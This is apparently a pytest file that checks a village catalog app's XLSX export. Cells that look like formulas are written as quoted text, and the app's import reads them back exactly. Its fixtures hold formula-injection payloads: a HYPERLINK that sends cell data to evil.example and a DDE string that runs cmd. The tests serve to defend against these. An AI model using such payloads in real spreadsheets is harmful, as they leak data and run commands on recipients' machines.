"""Exports safe for spreadsheets (issue 11, part 6): a text cell that begins with =, +, -, @, a tab or
a carriage return is written as text (string cell, quote prefix), never as a formula, and the app's
own import reads every such value back exactly."""

from __future__ import annotations

import zipfile

import openpyxl
import pytest

from models.exchange.catalog_xlsx import SHEET_NAME, export_catalog_xlsx, import_catalog_xlsx
from models.exchange.cell_text import FORMULA_LEADS, starts_like_formula, write_text_cell
from models.rules.timing import TimingRule
from models.services.catalog import CatalogService, ItemData
from models.services.context import Actor, ServiceContext
from models.services.setup import initialize

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
TAB_FORMULA = "\t=1+1"
MINUS_FIVE = "-5"
AT_SUM = "@SUM(A1)"
PLUS = "+86 138 0000 0000"

BOARD = "社区/村公示栏(电子屏)"


def _hostile_items() -> list[ItemData]:
    common = {"timing": TimingRule("monthly", day=10), "channels": (BOARD,)}
    return [
        ItemData(code="X-01", group="财务收支", name=HYPERLINK, content=TAB_FORMULA, basis=MINUS_FIVE,
                 publisher=DDE, **common),
        ItemData(code="X-02", group=AT_SUM, name="正常事项", content=DDE, basis=AT_SUM, **common),
        ItemData(code="X-03", group="其他", name=MINUS_FIVE, content=f"{PLUS}\n第二行", basis=HYPERLINK,
                 **common),
    ]


def _fields(ctx) -> list[dict]:
    return [i.to_json() for i in CatalogService(ctx).list_items(include_retired=True)]


@pytest.fixture
def exported(empty_village, tmp_path):
    db, ctx = empty_village
    for item in _hostile_items():
        CatalogService(ctx).add(item)
    path = tmp_path / "目录.xlsx"
    export_catalog_xlsx(ctx, path)
    return ctx, path


def test_no_cell_of_the_export_is_a_formula(exported):
    _ctx, path = exported
    with zipfile.ZipFile(path) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula element at all
    ws = openpyxl.load_workbook(path)[SHEET_NAME]
    risky = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and starts_like_formula(c.value)]
    found = {c.value for c in risky}
    assert {HYPERLINK, DDE, TAB_FORMULA, MINUS_FIVE, AT_SUM} <= found
    assert PLUS + "\n第二行" in found
    for cell in risky:
        assert cell.data_type == "s", cell.coordinate  # a string, not "f"
        assert cell.quotePrefix, cell.coordinate  # and shown as typed when edited in Excel or WPS


def test_the_export_reads_back_identically_through_the_apps_import(exported, tmp_path):
    ctx, path = exported
    db2 = initialize(tmp_path / "second.sqlite3", mode="village", code="410322100202", name="第二村",
                     township="城关镇", operator="王文书", template_id=None)
    try:
        ctx2 = ServiceContext(db2, Actor("王文书"))
        result = import_catalog_xlsx(ctx2, path)
        assert len(result.added) == 3
        assert _fields(ctx2) == _fields(ctx)
        item = CatalogService(ctx2).get("X-01")
        assert (item.name, item.content, item.basis, item.publisher) == (HYPERLINK, TAB_FORMULA, MINUS_FIVE, DDE)
        assert CatalogService(ctx2).get("X-02").group == AT_SUM
        again = import_catalog_xlsx(ctx2, path)  # and importing it again changes nothing
        assert again.updated == [] and len(again.unchanged) == 3
    finally:
        db2.dispose()


def test_a_village_name_that_looks_like_a_formula_is_a_title_not_a_formula(tmp_path):
    db = initialize(tmp_path / "v.sqlite3", mode="village", code="410322100203", name="=1+1村",
                    township="城关镇", operator="王文书", template_id=None)
    try:
        ctx = ServiceContext(db, Actor("王文书"))
        path = tmp_path / "目录.xlsx"
        export_catalog_xlsx(ctx, path)
        title = openpyxl.load_workbook(path)[SHEET_NAME]["A1"]
        assert title.value.startswith("=1+1村") and title.data_type == "s" and title.quotePrefix
    finally:
        db.dispose()


@pytest.mark.parametrize("value", ["=A1", "+1", "-1", "@x", "\tx", "\rx"])
def test_every_formula_lead_is_written_as_text(value):
    ws = openpyxl.Workbook().active
    cell = write_text_cell(ws.cell(1, 1), value)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value, "s", True)


@pytest.mark.parametrize("value", ["张三", "5", 5, None, "a=b", "1-2"])
def test_other_values_are_left_alone(value):
    ws = openpyxl.Workbook().active
    cell = write_text_cell(ws.cell(1, 1), value)
    assert cell.value == value and not cell.quotePrefix


def test_the_leads_are_the_ones_spreadsheets_evaluate():
    assert set(FORMULA_LEADS) == {"=", "+", "-", "@", "\t", "\r"}
